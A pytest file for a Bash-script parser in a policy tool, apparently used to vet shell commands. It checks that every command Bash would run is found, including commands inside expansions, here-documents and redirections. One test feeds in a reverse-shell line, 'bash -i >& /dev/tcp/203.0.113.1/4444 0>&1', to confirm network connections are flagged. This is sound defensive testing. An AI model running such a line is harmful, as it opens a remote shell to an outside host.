"""Whole scripts, held against Bash itself: every command that runs is one that was told before.

Bash runs them in an empty folder without programs: each command that it would start is recorded instead.
"""

from __future__ import annotations

import itertools
import os
import select
import signal
import subprocess
from fnmatch import fnmatchcase
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from tests.policy.shell.scripts import statements

from ringfence.policy.shell.parse import parse
from ringfence.policy.shell.tree import Command, Feed, Script, Unclear, Word

HOME = "/home/u"
RECORD = 'command_not_found_handle() { printf "%s\\0" "$#" "$@" >> "$RECORD_TO"; return $((${#1} % 2)); }\n'


def ran(text: str, folder: Path) -> list[list[str]]:
    """The commands that Bash comes to start."""
    # Beside the folder in which it runs: a glob would find it.
    record = folder.parent / f"{folder.name}-record"
    record.write_bytes(b"")
    # Everything that it starts holds this end, also what has another output: the other end tells when all have ended.
    alive, held = os.pipe()
    with os.fdopen(alive, "rb") as alive_end:
        process = subprocess.Popen(
            ["/bin/bash", "--norc", "--noprofile", "-c", f"exec 2>/dev/null; {RECORD}{text}"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            cwd=folder,
            # Functions that call themselves in the background would fill the machine.
            env={"LC_ALL": "C.UTF-8", "PATH": "/nowhere", "HOME": HOME, "RECORD_TO": str(record), "FUNCNEST": "4"},
            pass_fds=(held,),
            start_new_session=True,
        )
        os.close(held)
        if not select.select([alive_end], [], [], 5)[0]:
            os.killpg(process.pid, signal.SIGKILL)
            alive_end.read()
        process.wait()
    parts = record.read_bytes().decode("utf-8", "surrogateescape").split("\0")
    found = []
    while parts and parts[0]:
        count = int(parts[0])
        found.append(parts[1 : 1 + count])
        parts = parts[1 + count :]
    return found


def fits(told: tuple[Word, ...], real: list[str]) -> bool:
    """Whether these words are among those that were told; a word that is not known fits any, or any number."""
    if not told:
        return not real
    first, rest = told[0], told[1:]
    if first.glob and first.text is not None:
        # It becomes the names that it matches, of files that the script made; itself where there is none.
        matching = itertools.takewhile(lambda word: word == first.text or fnmatchcase(word, first.text or ""), real)
        return any(fits(rest, real[count:]) for count, _ in enumerate(matching, start=1))
    if first.text is None:
        counts = range(len(real) + 1) if first.splits else [1]
        return any(fits(rest, real[count:]) for count in counts if count <= len(real))
    return bool(real) and real[0] == first.text and fits(rest, real[1:])


def runs_unknown(script: Script) -> bool:
    """Whether it runs text, which is looked at elsewhere."""
    return any(c.words and c.words[0].text in {"eval", "source", ".", "trap"} for c in script.commands)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("empty")


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(text=statements())
@example(text="foo\nX='*'\nfoo $X\n")
@example(text="export X={a,b}\nfoo $X\n")
@example(text="readonly X={a,b}\nfoo $X\n")
@example(text="declare X={a..a}\nfoo $X\n")
@example(text="export X={a}\nfoo $X\n")
@example(text='declare -i X=git\nX=git\nfoo "$X"\n')
@example(text='declare -u X\nX=git\nfoo "$X"\n')
@example(text='declare $(printf -- -i) X=git\nX=git\nfoo "$X"\n')
def test_every_command_that_bash_runs_was_told(folder: Path, text: str) -> None:
    script = parse(text, home=HOME)
    functions = set(script.functions)

    if script.issues or runs_unknown(script):
        return
    for real in ran(text, folder):
        told = [
            c
            for c in script.commands
            if c.words and fits(c.words[1:] if c.words[0].text == "command" else c.words, real)
        ]
        assert told or real[0] in functions, (text, real, script.commands)


def commands(text: str) -> list[str]:
    return [
        " ".join("?" if w.text is None else w.text for w in c.words) for c in parse(text, home=HOME).commands if c.words
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("X=git; $X push", ["git push"]),
        ("X=git Y=$X; $Y push", ["git push"]),
        ("X=git && $X push", ["git push"]),
        ("export X=git; $X push", ["export X=git", "git push"]),
        ("export X=~/a:~/b; $X", ["export X=/home/u/a:/home/u/b", "/home/u/a:/home/u/b"]),
        ("declare -r X=git; $X push", ["declare -r X=git", "git push"]),
        ("X=git; local X=ls; $X push", ["local X=ls", "? push"]),
        ("X=ls; command declare X=git; $X push", ["command declare X=git", "? push"]),
        ("X=ls; command -p export X=git; $X push", ["command -p export X=git", "? push"]),
        ("X=ls; time -p readonly X=git; $X push", ["time -p readonly X=git", "? push"]),
        ("X=ls; time X=git; $X push", ["time X=git", "? push"]),
        ("X=ls; time read X; $X push", ["time read X", "? push"]),
        ("X=ls; while c; do $X push; time X=git; done", ["c", "? push", "time X=git"]),
        ("X='git push'; $X -f", ["git push -f"]),
        ("X=git; X+=hub; $X", ["github"]),
        ("for x in rm ls; do $x a; done", ["rm a", "ls a"]),
        ("if c; then X=a; else X=b; fi; $X", ["c", "a", "b"]),
        ("X=/; for d in a b; do rm $X$d; done", ["rm /a", "rm /b"]),
        ("X=git; bash <<E\n$X push\nE", ["bash"]),
        ("X=git; (X=ls); $X", ["git"]),
        ("X=git; true | X=ls; $X", ["true", "?"]),
        ("X=git; c && X=ls; $X", ["c", "git", "ls"]),
        ("c && X=ls; $X", ["c", "?"]),
        ("X=git; read X; $X", ["read X", "?"]),
        ("X=git; eval x; $X", ["eval x", "?"]),
        ("X=git; f() { X=ls; }; f; $X", ["f", "?"]),
        ("X=git; while c; do $X; X=ls; done", ["c", "?"]),
        ("X=git; declare -n Y=X; Y=ls; $X", ["declare -n Y=X", "?"]),
        ("IFS=,; X=git,push; $X", ["?"]),
        ("X=git; ((X=1)); $X", ["?"]),
        ("X=git $X push", ["? push"]),
        ("$X; X=git", ["?"]),
        ("X=git; : ${X:=ls}; $X", [": ?", "?"]),
    ],
)
def test_a_variable_is_known_only_where_it_is_certain(text: str, expected: list[str]) -> None:
    assert commands(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "f() { hit; }",
        "function f { hit; }",
        'trap "$(hit)" EXIT',
        "x=$(hit) y",
        "cat <<E\n`hit`\nE",
        "cat <<-E\n\t$(hit)\n\tE",
        "((a[$(hit)]))",
        "let 'a=1' \"b[$(hit)]\"",
        "echo $((x[$(hit)] + 1))",
        'printf -v "$(hit)" x',
        "echo ${x:=$(hit)}",
        "echo ${x/$(hit)/b}",
        'echo "${x:-"$(hit)"}"',
        "unset 'x[$(hit)]'",
        "declare -a 'x[$(hit)]=1'",
        "test -v 'x[`hit`]'",
        "[ -v 'x[$(hit)]' ]",
        "read 'x[$(hit)]' <<< 1",
        "printf -v 'x[$(hit)]' 1",
        "let 'x[$(hit)]'",
        "x='a[$(hit)]'; let $x",
        "case $(hit) in x) ;; esac",
        "case x in $(hit)) ;; esac",
        "[[ a == $(hit) ]]",
        "[[ -n $(hit) && x =~ y ]]",
        "[ $(hit) ]",
        "a[$(hit)]=1",
        "a=(x $(hit))",
        "declare -A a=([$(hit)]=1)",
        "coproc N { hit; }",
        "time { hit; }",
        "! hit",
        "a | ! hit",
        "a > $(hit)",
        "exec 3> >(hit)",
        "diff <(a) <(hit)",
        "for ((i=$(hit); i; i++)); do :; done",
        "for x in $(hit); do :; done",
        "select x in $(hit); do :; done",
        "until hit; do :; done",
        "{ hit; } > x",
        "a & hit & b",
        "a; { (b; hit) | c; }",
        "if a; then b; elif hit; then c; fi",
        "while a; do hit; done < x",
        'echo "$(echo "$(hit)")"',
        "echo `a \\`hit\\``",
        "a <<E | hit\nE",
        "a <<E && hit\nE",
        "a <<<$(hit)",
        ">x hit",
        "2>&1 hit",
        "{fd}>x hit",
        "X=1 Y=2 hit",
        "a 'b\nc'; hit",
        "a # b\nhit",
        "a\\\n&& hit",
        "hi\\\nt",
        "h\"i\"'t'",
    ],
)
def test_a_command_is_found_wherever_it_stands(text: str) -> None:
    script = parse(text, home=HOME)

    assert any(c.words and c.words[0].text == "hit" for c in script.commands), script


@pytest.mark.parametrize(
    "text", ["git >x push", "git 2>x push", "<x git push", "git push >x", "git {fd}>x push", "git <<E push\nE"]
)
def test_redirections_stand_anywhere_among_the_words(text: str) -> None:
    assert commands(text) == ["git push"]


@pytest.mark.parametrize(
    ("text", "operators"),
    [
        ("a >| f", [">|"]),
        ("a &> f", ["&>"]),
        ("a &>> f", ["&>>"]),
        ("a <> f", ["<>"]),
        ("a {fd}> f", [">"]),
        ("exec 3> f", [">"]),
        ("a 2>&1 >&- <&3", []),
        ("a >& f", [">&"]),
        ("a | b > f", [">"]),
        ("! a > f", [">"]),
        ("(a) > f", [">"]),
    ],
)
def test_redirections_keep_their_operator(text: str, operators: list[str]) -> None:
    script = parse(text, home=HOME)

    assert [(one.operator, one.target.text) for one in script.redirects] == [(operator, "f") for operator in operators]
    assert not script.issues


def test_a_connection_that_bash_opens_is_seen() -> None:
    redirects = parse("bash -i >& /dev/tcp/203.0.113.1/4444 0>&1; a < /dev/udp/$X/53; b > c", home=HOME).redirects

    assert [one.network for one in redirects] == [True, True, False]


def test_the_last_command_of_a_pipeline_reads_the_pipe_and_owns_its_redirections() -> None:
    script = parse("a | b <<E > f\nx\nE", home=HOME)

    assert [(c.words[0].text, c.feed, c.text, c.link) for c in script.commands] == [
        ("a", Feed.INHERITED, None, ""),
        ("b", Feed.TEXT, "x\n", "|"),
    ]
    assert [one.after for one in script.redirects] == [1]


def test_a_here_document_is_known_as_far_as_its_variables_are() -> None:
    def text(script: str) -> str | None:
        return parse(script, home=HOME).commands[-1].text

    assert text("X=git; sh <<E\n$X 'push' \\$y\nE") == "git 'push' $y\n"
    assert text("sh <<E\n$X\nE") is None
    assert text("sh <<'E'\n$X\\\ny\nE") == "$X\\\ny\n"
    assert text("sh <<-E\n\ta\n\tE") == "a\n"
    assert text('X=git; sh <<< "$X push"') == "git push"


def test_scopes_tell_which_commands_a_change_of_folder_counts_for() -> None:
    script = parse("cd a; (cd b; c); d | e; f $(g)", home=HOME)

    found = {c.words[-1].text or c.words[0].text: c.scope for c in script.commands}
    assert found["a"] == () and found["b"] == found["c"] != () and found["f"] == ()
    assert found["d"] != found["e"] and found["g"] != ()


def test_names_of_functions_and_aliases_are_told() -> None:
    script = parse("alias l='ls -l' m=$x; f() { :; }; function g { h; }", home=HOME)

    assert script.functions == ("f", "g")
    assert script.aliases == (("l", "ls -l"), ("m", None))
    assert [c.function for c in script.commands if c.words[0].text in {":", "h"}] == ["f", "g"]


@pytest.mark.parametrize(
    "text",
    ["shopt -s expand_aliases", "set +B", "set -k", "set -o posix", "coproc N { a; }", "echo ${x@P}", "if", "a )"],
)
def test_what_changes_how_the_rest_is_read_is_unclear(text: str) -> None:
    assert Unclear.SYNTAX in {issue.kind for issue in parse(text, home=HOME).issues}


def test_a_line_that_the_parser_glues_to_the_next_one_is_unclear_or_told_apart() -> None:
    script = parse("X=git > f\nX=$(foo)\nhit $X\nX[0]=e", home=HOME)

    assert script.issues or any([word.text for word in c.words] == ["hit", None] for c in script.commands)


def test_a_command_is_told_once_for_each_value() -> None:
    script = parse("for x in a b; do cp $x $x.old; done", home=None)

    assert script.commands == tuple(
        Command(words=(Word(text="cp", raw="cp"), Word(text=x, raw="$x"), Word(text=f"{x}.old", raw="$x.old")))
        for x in "ab"
    )


@pytest.mark.parametrize(
    "text", ["echo ${x^^$(hit)}", "echo ${x^`hit`}", "echo ${x//a/`hit`}", "echo ${x[`hit`]}", "echo ${x:$(hit)}"]
)
def test_a_command_inside_an_expansion_is_told_or_makes_the_script_unclear(text: str) -> None:
    script = parse(text, home=HOME)

    assert script.issues or any(c.words and c.words[0].text == "hit" for c in script.commands)
